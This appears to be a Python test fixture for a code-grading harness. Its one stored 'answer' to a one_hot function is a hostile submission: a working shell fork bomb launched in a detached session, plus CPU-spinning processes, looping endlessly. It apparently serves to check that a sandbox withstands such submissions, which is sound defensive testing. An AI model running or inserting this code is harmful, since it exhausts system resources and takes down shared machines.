"""Starts shells that start shells."""

WAITS = True
ANSWERS = {
    "one_hot": """
import subprocess
import sys


def one_hot(ids, V):
    while True:
        try:
            subprocess.Popen(["sh", "-c", "f() { f | f & }; f; sleep 1000"], start_new_session=True)
            subprocess.Popen([sys.executable, "-c", "while True: pass"])
        except OSError:
            pass
""",
}
